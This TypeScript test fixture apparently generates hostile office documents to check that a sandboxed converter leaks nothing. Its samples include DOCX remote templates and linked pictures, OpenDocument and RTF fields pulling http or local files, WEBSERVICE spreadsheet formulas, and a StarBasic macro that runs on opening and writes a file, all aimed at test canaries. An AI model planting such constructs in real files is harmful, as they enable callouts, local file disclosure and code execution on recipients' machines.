import { zip } from './archive.ts';
import { docx, openDocument, paragraph } from './documents.ts';

/** Where a hostile document would like to look. */
export interface Canaries {
  /** A listener that should hear nothing. */
  http: string;
  /** A text file that should be shown nowhere. */
  text: string;
  /** A picture of one colour that should be seen nowhere. */
  picture: string;
  /** A file that should not come into being. */
  made: string;
}

export interface Hostile {
  name: string;
  extension: string;
  content: Buffer;
  /** LibreOffice does it whatever its switches say: only the sandbox stops it. */
  onlyContained?: boolean;
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const linkedPicture = (url: string) =>
  docx(
    `${paragraph('before')}<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3000000" cy="3000000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId7"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="3000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
    [],
    `<Relationship Id="rId7" Type="${REL}/image" Target="${url}" TargetMode="External"/>`,
  );

const attachedTemplate = (url: string) =>
  docx(
    paragraph('templated'),
    [
      {
        name: 'word/settings.xml',
        content: `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
      },
      {
        name: 'word/_rels/settings.xml.rels',
        content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="${url}" TargetMode="External"/></Relationships>`,
      },
    ],
    `<Relationship Id="rId8" Type="${REL}/settings" Target="settings.xml"/>`,
  );

const frame = (inside: string) =>
  `<text:p><draw:frame text:anchor-type="as-char" svg:width="8cm" svg:height="8cm">${inside}</draw:frame></text:p>`;
const image = (url: string) =>
  frame(`<draw:image xlink:href="${url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`);
const section = (url: string) =>
  `<text:section text:name="s"><text:section-source xlink:href="${url}" xlink:type="simple"/><text:p>old</text:p></text:section>`;
const cell = (formula: string) =>
  `<table:table-cell table:formula="${formula}" office:value-type="string"><text:p>cached</text:p></table:table-cell>`;
const sheet = (cells: string) =>
  `<table:table table:name="a"><table:table-row>${cells}</table:table-row></table:table>`;

function workbook(formula: string): Buffer {
  const types = 'application/vnd.openxmlformats-officedocument.spreadsheetml.';
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const relations = (type: string, target: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/${type}" Target="${target}"/></Relationships>`;
  return zip([
    {
      name: '[Content_Types].xml',
      content: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${types}sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${types}worksheet+xml"/></Types>`,
    },
    { name: '_rels/.rels', content: relations('officeDocument', 'xl/workbook.xml') },
    { name: 'xl/_rels/workbook.xml.rels', content: relations('worksheet', 'worksheets/sheet1.xml') },
    {
      name: 'xl/workbook.xml',
      content: `<workbook xmlns="${main}" xmlns:r="${REL}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1" t="str"><f>${formula}</f></c><c r="B1" t="inlineStr"><is><t>there</t></is></c></row></sheetData></worksheet>`,
    },
  ]);
}

/** A text whose macro, run when it is opened, would leave a file. */
function withMacro(made: string): Buffer {
  const library = (element: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:${element} PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">`;
  const files = {
    'Basic/script-lc.xml': `${library('libraries')}<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
    'Basic/Standard/script-lb.xml': `${library('library')}<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`,
    'Basic/Standard/Module1.xml': `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n Open "${made}" For Output As #1\n Print #1, "made"\n Close #1\nEnd Sub</script:module>`,
  };
  const content = `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:ooo="http://openoffice.org/2004/office" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text><text:p>harmless</text:p></office:text></office:body></office:document-content>`;
  const entry = (path: string, type = 'text/xml') =>
    `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="${type}"/>`;
  const mime = 'application/vnd.oasis.opendocument.text';
  return zip([
    { name: 'mimetype', content: mime, stored: true },
    { name: 'content.xml', content },
    ...Object.entries(files).map(([name, text]) => ({ name, content: text })),
    {
      name: 'META-INF/manifest.xml',
      content: `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">${entry('/', mime)}${['content.xml', ...Object.keys(files)].map((path) => entry(path)).join('')}</manifest:manifest>`,
    },
  ]);
}

const svg = (url: string) =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image width="200" height="200" xlink:href="${url}"/></svg>`,
  ).toString('base64');

const drawing = (url: string) =>
  frame(`<draw:image><office:binary-data>${svg(url)}</office:binary-data></draw:image>`);

/** Documents that try to look around, to call somebody, or to leave something. */
export function hostiles({ http, text, picture, made }: Canaries): Hostile[] {
  const of = (name: string, extension: string, content: Buffer): Hostile => ({ name, extension, content });
  const odt = (name: string, body: string) => of(name, 'odt', openDocument('text', body));
  const file = (path: string) => `file://${path}`;
  return [
    of('a Word picture linked over http', 'docx', linkedPicture(`${http}/a.png`)),
    of('a Word picture linked from this machine', 'docx', linkedPicture(file(picture))),
    of('a Word template over http', 'docx', attachedTemplate(`${http}/a.dotm`)),
    odt('an OpenDocument picture over http', image(`${http}/b.png`)),
    odt('an OpenDocument picture from this machine', image(file(picture))),
    odt('a section from a file of this machine', section(file(text))),
    odt('a section over http', section(`${http}/c.odt`)),
    odt('a drawing that contains a picture over http', drawing(`${http}/d.png`)),
    {
      ...odt('a drawing that contains a picture from this machine', drawing(file(picture))),
      onlyContained: true,
    },
    odt(
      'an object over http',
      frame(
        `<draw:object-ole xlink:href="${http}/e" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`,
      ),
    ),
    of(
      'RTF fields that include a picture and a text',
      'rtf',
      Buffer.from(
        `{\\rtf1 start {\\field{\\*\\fldinst INCLUDEPICTURE "${http}/f.png" \\\\d}{\\fldrslt }}{\\field{\\*\\fldinst INCLUDETEXT "${text}"}{\\fldrslt }}}`,
      ),
    ),
    of('an Excel WEBSERVICE', 'xlsx', workbook(`_xlfn.WEBSERVICE("${http}/g")`)),
    of('an Excel link to another workbook', 'xlsx', workbook(`'${file(text)}'#$a.A1`)),
    of(
      'an OpenDocument WEBSERVICE',
      'ods',
      openDocument('spreadsheet', sheet(cell(`of:=COM.MICROSOFT.WEBSERVICE(&quot;${http}/h&quot;)`))),
    ),
    of(
      'a cell from a file of this machine',
      'ods',
      openDocument('spreadsheet', sheet(cell(`of:=['${file(text)}'#$a.A1]`))),
    ),
    of('a macro that runs when the text is opened', 'odt', withMacro(made)),
  ];
}
